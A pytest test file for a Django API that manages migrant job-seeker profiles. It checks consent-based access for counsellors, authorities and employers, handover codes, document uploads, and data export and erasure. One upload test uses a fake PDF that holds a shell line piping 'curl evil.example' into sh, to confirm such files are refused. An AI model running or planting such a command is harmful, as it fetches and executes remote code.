"""The migrants API: the migrant's own profile, counsellors' access through consent, and what
everyone else is refused."""

from __future__ import annotations

from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from drf_spectacular.generators import SchemaGenerator
from rest_framework.test import APIClient

from accounts.models import User
from accounts.tests.factories import UserFactory
from migrants.models import MigrantProfile, QualificationDocument
from migrants.selectors import STEPS
from migrants.tests.factories import (
    DIPLOMA_PDF,
    counsellor,
    grant,
    migrant_with_profile,
    organisation_of,
    qualification,
    registered_in_person,
    shared_with_authority,
)
from taxonomy.models import Occupation, Skill
from tests.clients import ApiClientFor

pytestmark = pytest.mark.django_db
ROOT = "/api/v1/migrants/"
ME = f"{ROOT}me/"


def profile_url(profile: MigrantProfile, suffix: str = "") -> str:
    return f"{ROOT}profiles/{profile.pk}/{suffix}"


def error_field(response: Any) -> str:
    """The field a 400 names: from a service (``field``) or from the input serializer (key)."""
    assert response.status_code == 400, response.content
    body = response.json()
    return str(body["field"]) if "field" in body else next(iter(body))


def new_profile_body(**overrides: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "given_names": "Amina",
        "family_name": "Haddad",
        "date_of_birth": "1998-04-12",
        "sex": "female",
        "nationality": "MA",
        "country_of_residence": "MA",
        "phone": "+212 612-345-678",
        "contact_email": "Amina.Haddad@example.org",
        "contact_language": "fr",
        "preferred_destinations": ["BE", "DE"],
        "available_from": "2027-01-01",
    }
    body.update(overrides)
    return body


@pytest.fixture
def owned() -> tuple[User, MigrantProfile]:
    return migrant_with_profile()


@pytest.fixture
def ledger(owned: tuple[User, MigrantProfile]) -> tuple[User, MigrantProfile, User, User]:
    """The owner's profile, whose identity an employer saw and whose BSc an authority holds:
    (owner, profile, authority officer, employer)."""
    user, profile = owned
    employer = counsellor(kind="employer")
    grant(user, profile, "employer_identity", organisation_id=organisation_of(employer).pk)
    authority = shared_with_authority(user, qualification(user, profile, title="BSc"))
    return user, profile, authority, employer


@pytest.fixture
def staff() -> User:
    """Staff of a Moroccan training provider (a counsellor)."""
    return counsellor()


# --- The migrant's own profile ----------------------------------------------------------------
def test_migrant_can_create_read_and_patch_their_profile_with_nested_entries(
    migrant: User, api_client_for: ApiClientFor
) -> None:
    client = api_client_for(migrant)
    assert client.get(ME).status_code == 404
    assert client.patch(ME, {"family_name": "X"}).status_code == 404

    created = client.post(ME, new_profile_body())
    assert created.status_code == 201, created.json()
    assert created.json()["phone"] == "+212612345678"
    assert created.json()["can_edit"] is True
    welding = Skill.objects.get(preferred_label="perform tungsten inert gas welding")
    welder = Occupation.objects.get(code="7212")
    steps = [
        (
            "education/",
            {"isced_level": 6, "institution": "UH2", "country": "MA", "field_code": "061"},
        ),
        ("skills/", {"skill_id": welding.pk, "proficiency": "basic"}),
        ("skills/", {"skill_id": welding.pk, "proficiency": "advanced", "evidence": "assessed"}),
        (
            "languages/",
            {
                "language": "de",
                "understanding": "b2",
                "speaking": "B1",
                "writing": "B1",
                "certificate": {"name": "Goethe-Zertifikat B1", "date": "2024-06-01"},
            },
        ),
        (
            "experience/",
            {
                "occupation_id": welder.pk,
                "country": "MA",
                "started_on": "2019-01-01",
                "ended_on": "2021-01-01",
            },
        ),
        (
            "experience/",
            {
                "occupation_id": welder.pk,
                "country": "ES",
                "started_on": "2020-01-01",
                "ended_on": "2022-01-01",
            },
        ),
        (
            "qualifications/",
            {"title": "Technicien", "institution": "OFPPT", "country": "MA", "isced_level": 5},
        ),
    ]
    for suffix, body in steps:
        response = client.post(ME + suffix, body)
        assert response.status_code in (200, 201), (suffix, response.json())

    patched = client.patch(ME, {"family_name": "Haddad-Benali", "preferred_destinations": ["BE"]})
    assert patched.status_code == 200, patched.json()

    data = client.get(ME).json()
    assert (data["given_names"], data["family_name"]) == ("Amina", "Haddad-Benali")
    assert (data["nationality"], data["date_of_birth"]) == ("MA", "1998-04-12")
    assert data["preferred_destinations"] == ["BE"]
    assert [e["field_code"] for e in data["education"]] == ["061"]
    assert data["skills"] == [
        {
            "id": data["skills"][0]["id"],
            "skill_id": welding.pk,
            "label": "perform tungsten inert gas welding",
            "uri": welding.uri,
            "proficiency": "advanced",
            "evidence": "assessed",
        }
    ]
    language = data["languages"][0]
    assert (language["understanding"], language["speaking"], language["writing"]) == (
        "B2",
        "B1",
        "B1",
    )
    assert language["certificate"] == {
        "name": "Goethe-Zertifikat B1",
        "score": "",
        "date": "2024-06-01",
    }
    assert len(data["experience"]) == 2
    assert data["years_by_occupation"] == [
        {"occupation": {"id": welder.pk, "code": "7212", "title": welder.title}, "years": 3.0}
    ]
    assert data["qualifications"][0]["documents"] == []
    assert data["completeness"] == {
        "percent": 100,
        "done": list(STEPS),  # every step, in page order
        "missing": [],
    }
    assert data["disability"] is None  # the owner sees the key; nothing was recorded

    skill_id = data["skills"][0]["id"]
    assert client.delete(f"{ME}skills/{skill_id}/").status_code == 204
    assert client.delete(f"{ME}skills/{skill_id}/").status_code == 404
    assert client.get(ME).json()["completeness"]["missing"] == ["skills"]


@pytest.mark.parametrize(
    ("suffix", "body", "field"),
    [
        ("", {"phone": "0612345678"}, "phone"),
        ("", {"nationality": "QQ"}, "nationality"),
        ("", {"nationality": "QQQ"}, "nationality"),
        ("", {"sex": "robot"}, "sex"),
        ("", {"migration_status": "returned"}, "returned_from"),
        (
            "languages/",
            {"language": "de", "understanding": "D1", "speaking": "B1", "writing": "B1"},
            "understanding",
        ),
        ("education/", {"isced_level": 6, "institution": "X", "country": "QQ"}, "country"),
        (
            "experience/",
            {
                "occupation_id": 1,
                "country": "MA",
                "started_on": "2022-01-01",
                "ended_on": "2021-01-01",
            },
            "ended_on",
        ),
    ],
)
def test_invalid_input_is_refused_with_the_field_named(
    owned: tuple[User, MigrantProfile],
    api_client_for: ApiClientFor,
    suffix: str,
    body: dict[str, Any],
    field: str,
) -> None:
    user, profile = owned
    client = api_client_for(user)
    response = client.patch(ME, body) if suffix == "" else client.post(ME + suffix, body)
    assert error_field(response) == field
    profile.refresh_from_db()
    assert (profile.phone, profile.nationality_id) == ("+212612345678", "MA")


def test_organisation_staff_cannot_create_a_migrant_profile_for_themselves(
    employer_staff: User, api_client_for: ApiClientFor
) -> None:
    response = api_client_for(employer_staff).post(ME, new_profile_body())
    assert response.status_code == 403
    assert not MigrantProfile.objects.exists()


# --- Permission matrix ------------------------------------------------------------------------
def test_anonymous_gets_401_everywhere(
    owned: tuple[User, MigrantProfile], api_client: APIClient
) -> None:
    _user, profile = owned
    for url in (ME, f"{ME}consents/", f"{ROOT}profiles/", profile_url(profile)):
        assert api_client.get(url).status_code == 401, url
    assert api_client.post(ME, new_profile_body()).status_code == 401
    assert api_client.patch(profile_url(profile), {"given_names": "X"}).status_code == 401


def test_migrant_can_read_their_own_profile_but_not_another_migrants(
    owned: tuple[User, MigrantProfile], api_client_for: ApiClientFor
) -> None:
    user, profile = owned
    _other_user, other = migrant_with_profile(given_names="Youssef", phone="+212699999999")
    client = api_client_for(user)

    assert client.get(ME).json()["id"] == profile.pk
    assert client.get(profile_url(profile)).status_code == 200
    assert client.get(profile_url(other)).status_code == 404
    assert client.patch(profile_url(other), {"given_names": "X"}).status_code == 404
    assert client.post(profile_url(other, "skills/"), {}).status_code == 404
    assert client.get(profile_url(other, "consents/")).status_code == 404
    # The list of profiles reached through a consent is for staff.
    assert client.get(f"{ROOT}profiles/").status_code == 403
    other.refresh_from_db()
    assert other.given_names == "Youssef"


def test_officer_without_consent_gets_404(
    owned: tuple[User, MigrantProfile], government_officer: User, api_client_for: ApiClientFor
) -> None:
    _user, profile = owned
    client = api_client_for(government_officer)
    assert client.get(profile_url(profile)).status_code == 404
    assert client.patch(profile_url(profile), {"given_names": "X"}).status_code == 404
    assert client.post(profile_url(profile, "handover/")).status_code == 404
    assert client.get(f"{ROOT}profiles/").json()["results"] == []


def test_counsellor_with_counselling_consent_can_read_and_patch(
    owned: tuple[User, MigrantProfile], staff: User, api_client_for: ApiClientFor
) -> None:
    user, profile = owned
    grant(user, profile, "counselling", organisation_id=organisation_of(staff).pk)
    client = api_client_for(staff)

    assert client.get(profile_url(profile)).status_code == 200
    response = client.patch(profile_url(profile), {"available_from": "2027-06-01"})
    assert response.status_code == 200, response.json()
    assert response.json()["available_from"] == "2027-06-01"
    assert response.json()["can_edit"] is True
    assert [p["id"] for p in client.get(f"{ROOT}profiles/").json()["results"]] == [profile.pk]
    # The migrant has a login: only they decide on consents.
    refused = client.post(profile_url(profile, "consents/"), {"purpose": "statistics"})
    assert refused.status_code == 403


def test_recognition_authority_with_consent_reads_but_cannot_change(
    owned: tuple[User, MigrantProfile], api_client_for: ApiClientFor
) -> None:
    user, profile = owned
    nursing = qualification(user, profile)
    authority = shared_with_authority(user, nursing)
    client = api_client_for(authority)

    response = client.get(profile_url(profile))
    assert response.status_code == 200
    assert response.json()["can_edit"] is False
    assert client.patch(profile_url(profile), {"given_names": "X"}).status_code == 403
    body = {"title": "X", "institution": "Y", "country": "DE", "isced_level": 6}
    assert client.post(profile_url(profile, "qualifications/"), body).status_code == 403
    assert client.delete(profile_url(profile, f"qualifications/{nursing.pk}/")).status_code == 403
    assert client.post(profile_url(profile, "handover/")).status_code == 403


def test_employer_gets_nothing_even_with_an_identity_consent(
    owned: tuple[User, MigrantProfile], employer_staff: User, api_client_for: ApiClientFor
) -> None:
    user, profile = owned
    grant(user, profile, "employer_identity", organisation_id=organisation_of(employer_staff).pk)
    client = api_client_for(employer_staff)

    # Employers never reach this API: their role is refused before any profile is looked up.
    assert client.get(profile_url(profile)).status_code == 403
    assert client.get(profile_url(profile, "consents/")).status_code == 403
    assert client.get(ME).status_code == 403
    assert client.get(f"{ROOT}profiles/").status_code == 403
    body = {**new_profile_body(), "organisation": organisation_of(employer_staff).pk}
    refused = client.post(f"{ROOT}profiles/", {**body, "consent_given_in_person": True})
    assert refused.status_code == 403
    assert MigrantProfile.objects.count() == 1


# --- Special-category data --------------------------------------------------------------------
def test_disability_is_shown_only_to_the_owner_and_with_a_disability_share_consent(
    owned: tuple[User, MigrantProfile], staff: User, api_client_for: ApiClientFor
) -> None:
    user, profile = owned
    grant(user, profile, "counselling", organisation_id=organisation_of(staff).pk)
    owner = api_client_for(user)
    body = {"description": "uses a wheelchair", "needs_accommodation": True}

    response = owner.put(f"{ME}disability/", body)
    assert response.status_code == 200, response.json()
    assert owner.get(ME).json()["disability"]["description"] == "uses a wheelchair"

    counsellor_client = api_client_for(staff)
    assert "disability" not in counsellor_client.get(profile_url(profile)).json()
    # An editor without the consent may neither read nor overwrite it.
    assert counsellor_client.put(profile_url(profile, "disability/"), body).status_code == 403

    shared = owner.post(
        f"{ME}consents/",
        {"purpose": "disability_share", "organisation": organisation_of(staff).pk},
    )
    assert shared.status_code == 201, shared.json()
    data = counsellor_client.get(profile_url(profile)).json()
    assert data["disability"]["needs_accommodation"] is True

    owner.post(f"{ME}consents/{shared.json()['id']}/withdraw/")
    assert "disability" not in counsellor_client.get(profile_url(profile)).json()


# --- Consent ----------------------------------------------------------------------------------
def test_consent_is_recorded_with_notice_version_and_channel(
    owned: tuple[User, MigrantProfile], api_client_for: ApiClientFor
) -> None:
    user, _profile = owned
    client = api_client_for(user)

    response = client.post(f"{ME}consents/", {"purpose": "pool_destination", "country": "BE"})

    assert response.status_code == 201, response.json()
    data = response.json()
    assert (data["purpose"], data["channel"], data["notice_version"]) == (
        "pool_destination",
        "api",
        "2026-11",
    )
    assert data["recipient"] == {"type": "country", "id": "BE", "name": "Belgium"}
    assert data["withdrawn_at"] is None
    missing = client.post(f"{ME}consents/", {"purpose": "pool_destination"})
    assert error_field(missing) == "country"
    assert [c["id"] for c in client.get(f"{ME}consents/").json()] == [data["id"]]
    assert [c["id"] for c in client.get(ME).json()["consents"]] == [data["id"]]


def test_withdrawing_consent_through_the_api_ends_the_counsellors_access_at_once(
    staff: User, migrant: User, api_client_for: ApiClientFor
) -> None:
    profile = registered_in_person(staff)
    staff_client = api_client_for(staff)
    code = staff_client.post(profile_url(profile, "handover/")).json()["code"]
    owner = api_client_for(migrant)
    assert owner.post(f"{ME}claim/", {"code": code}).status_code == 200
    assert staff_client.get(profile_url(profile)).status_code == 200

    counselling = next(c for c in owner.get(f"{ME}consents/").json() if c["is_active"])
    assert counselling["purpose"] == "counselling"
    assert counselling["channel"] == "in_person"
    withdrawn = owner.post(f"{ME}consents/{counselling['id']}/withdraw/")

    assert withdrawn.status_code == 200
    assert withdrawn.json()["withdrawn_at"] is not None
    assert staff_client.get(profile_url(profile)).status_code == 404
    assert staff_client.patch(profile_url(profile), {"given_names": "X"}).status_code == 404
    assert staff_client.get(f"{ROOT}profiles/").json()["results"] == []


# --- Counsellor-assisted intake and handover --------------------------------------------------
def test_counsellor_registers_a_migrant_only_with_consent_given_in_person(
    staff: User, api_client_for: ApiClientFor
) -> None:
    client = api_client_for(staff)
    body = {**new_profile_body(), "organisation": organisation_of(staff).pk}

    for confirmation in (False, None):
        refused = client.post(f"{ROOT}profiles/", {**body, "consent_given_in_person": confirmation})
        assert error_field(refused) == "consent_given_in_person"
    assert error_field(client.post(f"{ROOT}profiles/", body)) == "consent_given_in_person"
    assert not MigrantProfile.objects.exists()

    created = client.post(f"{ROOT}profiles/", {**body, "consent_given_in_person": True})

    assert created.status_code == 201, created.json()
    data = created.json()
    assert data["has_login"] is False
    assert data["registered_by"]["id"] == organisation_of(staff).pk
    assert [(c["purpose"], c["channel"]) for c in data["consents"]] == [
        ("counselling", "in_person")
    ]
    # Before handover the counsellor records further consents the migrant gives in person.
    recorded = client.post(
        profile_url(MigrantProfile.objects.get(), "consents/"), {"purpose": "statistics"}
    )
    assert recorded.status_code == 201
    assert recorded.json()["channel"] == "in_person"


def test_handover_code_is_shown_once_and_links_the_profile_to_the_claimant(
    staff: User, migrant: User, api_client_for: ApiClientFor
) -> None:
    profile = registered_in_person(staff)
    staff_client = api_client_for(staff)

    response = staff_client.post(profile_url(profile, "handover/"))

    assert response.status_code == 201
    assert response["Cache-Control"] == "no-store"
    code = response.json()["code"]
    assert code not in staff_client.get(profile_url(profile)).content.decode()
    profile.refresh_from_db()
    assert code not in profile.handover_token_hash

    owner = api_client_for(migrant)
    claimed = owner.post(f"{ME}claim/", {"code": code})
    assert claimed.status_code == 200, claimed.json()
    assert (claimed.json()["id"], claimed.json()["has_login"]) == (profile.pk, True)
    assert owner.get(ME).json()["id"] == profile.pk
    profile.refresh_from_db()
    assert profile.user == migrant

    again = api_client_for(UserFactory.create()).post(f"{ME}claim/", {"code": code})
    assert error_field(again) == "code"
    assert staff_client.post(profile_url(profile, "handover/")).status_code == 400


# --- Documents --------------------------------------------------------------------------------
def _qualification_id(client: APIClient) -> int:
    body = {"title": "Diploma", "institution": "OFPPT", "country": "MA", "isced_level": 5}
    response = client.post(f"{ME}qualifications/", body)
    assert response.status_code == 201, response.json()
    return int(response.json()["id"])


def test_migrant_uploads_a_pdf_to_a_qualification(
    owned: tuple[User, MigrantProfile], api_client_for: ApiClientFor, private_media: Path
) -> None:
    user, profile = owned
    client = api_client_for(user)
    qualification_id = _qualification_id(client)
    upload = SimpleUploadedFile("diploma.pdf", DIPLOMA_PDF, content_type="application/pdf")

    response = client.post(
        f"{ME}qualifications/{qualification_id}/documents/", {"file": upload}, format="multipart"
    )

    assert response.status_code == 201, response.json()
    data = response.json()
    assert (data["content_type"], data["original_name"], data["size"]) == (
        "application/pdf",
        "diploma.pdf",
        len(DIPLOMA_PDF),
    )
    # Served only by the permission-checked page route, never from a media URL.
    assert data["download_url"].endswith(f"/{profile.pk}/documents/{data['id']}/")
    documents = client.get(ME).json()["qualifications"][0]["documents"]
    assert [d["id"] for d in documents] == [data["id"]]
    assert [p.read_bytes() for p in private_media.rglob("*") if p.is_file()] == [DIPLOMA_PDF]

    url = f"{ME}qualifications/{qualification_id}/documents/{data['id']}/"
    assert client.delete(url).status_code == 204
    assert not QualificationDocument.objects.exists()


def test_a_script_renamed_pdf_is_refused_and_nothing_is_stored(
    owned: tuple[User, MigrantProfile], api_client_for: ApiClientFor, private_media: Path
) -> None:
    user, _profile = owned
    client = api_client_for(user)
    qualification_id = _qualification_id(client)
    script = SimpleUploadedFile(
        "diploma.pdf", b"#!/bin/sh\ncurl evil.example | sh\n", content_type="application/pdf"
    )

    response = client.post(
        f"{ME}qualifications/{qualification_id}/documents/", {"file": script}, format="multipart"
    )

    assert error_field(response) == "file"
    assert not QualificationDocument.objects.exists()
    assert not [p for p in private_media.rglob("*") if p.is_file()]


def test_a_stranger_cannot_upload_to_someone_elses_qualification(
    owned: tuple[User, MigrantProfile], api_client_for: ApiClientFor, private_media: Path
) -> None:
    user, profile = owned
    qualification_id = _qualification_id(api_client_for(user))
    stranger, _ = migrant_with_profile(given_names="Youssef", phone="+212699999999")
    client = api_client_for(stranger)

    by_id = client.post(
        profile_url(profile, f"qualifications/{qualification_id}/documents/"),
        {"file": SimpleUploadedFile("x.pdf", DIPLOMA_PDF)},
        format="multipart",
    )
    as_own = client.post(
        f"{ME}qualifications/{qualification_id}/documents/",
        {"file": SimpleUploadedFile("x.pdf", DIPLOMA_PDF)},
        format="multipart",
    )

    assert (by_id.status_code, as_own.status_code) == (404, 404)
    assert not QualificationDocument.objects.exists()


# --- Lists ------------------------------------------------------------------------------------
def test_profile_list_query_count_does_not_grow_with_its_length(
    staff: User, api_client_for: ApiClientFor
) -> None:
    client = api_client_for(staff)

    def make(n: int) -> None:
        for i in range(n):
            registered_in_person(
                staff,
                given_names=f"Person{MigrantProfile.objects.count()}",
                phone=f"+2126000{MigrantProfile.objects.count():05d}",
                date_of_birth=date(1990, 1, 1 + i),
            )

    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            response = client.get(f"{ROOT}profiles/")
        assert response.status_code == 200
        return len(queries)

    make(2)
    client.get(f"{ROOT}profiles/")  # warm the per-user caches
    two = count()
    make(6)
    eight = count()

    assert client.get(f"{ROOT}profiles/").json()["count"] == 8
    assert eight == two


# --- Schema -----------------------------------------------------------------------------------
def test_every_endpoint_is_in_the_schema_under_both_prefixes() -> None:
    schema = SchemaGenerator().get_schema(request=None, public=True)
    paths = {path for path in schema["paths"] if path.startswith(ROOT)}
    for suffix in ("skills/", "languages/", "consents/", "disability/", "skills/{entry_id}/"):
        assert f"{ME}{suffix}" in paths
        assert f"{ROOT}profiles/{{id}}/{suffix}" in paths
    assert f"{ROOT}profiles/{{id}}/handover/" in paths
    assert f"{ME}claim/" in paths


def test_a_read_only_authority_sees_neither_the_ledger_nor_unshared_qualifications(
    ledger: tuple[User, MigrantProfile, User, User], api_client_for: ApiClientFor
) -> None:
    user, profile, authority, _employer = ledger
    qualification(user, profile, title="Unshared", isced_level=7)
    seen_by_authority = api_client_for(authority).get(profile_url(profile)).json()
    assert seen_by_authority["consents"] == []
    assert [q["title"] for q in seen_by_authority["qualifications"]] == ["BSc"]
    assert len(api_client_for(user).get(ME).json()["consents"]) == 2


def test_migrant_exports_and_erases_through_the_api(
    owned: tuple[User, MigrantProfile], staff: User, api_client_for: ApiClientFor
) -> None:
    import io
    import zipfile

    user, profile = owned
    client = api_client_for(user)
    exported = client.get(f"{ME}export/")
    assert exported.status_code == 200
    assert exported["Content-Type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(exported.content)) as archive:
        assert "profile.json" in archive.namelist()
    assert api_client_for(staff).get(f"{ME}export/").status_code == 403

    wrong = client.post(f"{ME}erase/", {"password": "nope"})
    assert wrong.status_code == 400
    assert wrong.json()["field"] == "password"
    assert client.post(f"{ME}erase/", {"password": "a-long-test-password"}).status_code == 204
    profile.refresh_from_db()
    assert profile.state == "erased"


def test_a_read_only_authority_cannot_list_the_consent_ledger(
    ledger: tuple[User, MigrantProfile, User, User], api_client_for: ApiClientFor
) -> None:
    """The ledger tells who else holds the person's data (e.g. which employer saw their
    identity): the profile's ``consents`` field hides it from a reader, and so must the list."""
    _user, profile, authority, employer = ledger
    response = api_client_for(authority).get(profile_url(profile, "consents/"))
    assert response.status_code == 403, "the authority read the consent ledger"
    assert organisation_of(employer).name not in response.content.decode()
